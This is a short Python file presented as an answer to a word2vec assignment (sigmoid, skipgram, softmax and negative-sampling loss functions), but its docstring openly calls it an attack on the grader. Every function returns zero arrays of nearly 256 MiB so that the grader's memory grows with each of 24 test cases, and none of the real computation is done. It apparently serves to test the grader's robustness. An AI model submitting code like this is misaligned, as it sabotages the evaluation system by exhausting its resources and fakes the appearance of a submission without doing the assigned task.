"""Attack: every reply carries just under 256 MiB of float64 (the per-message limit); the grader keeps
every Reply of every case until scoring ends, so its memory grows by ~256 MiB per case (24 cases)."""
import numpy as np
BIG = (256 << 20) // 8 // 3 - 16

def _big(*_):
    z = np.zeros(BIG)
    return z, z, z

def sigmoid(x):
    return np.zeros((256 << 20) // 8 - 16)

naiveSoftmaxLossAndGradient = negSamplingLossAndGradient = skipgram = _big
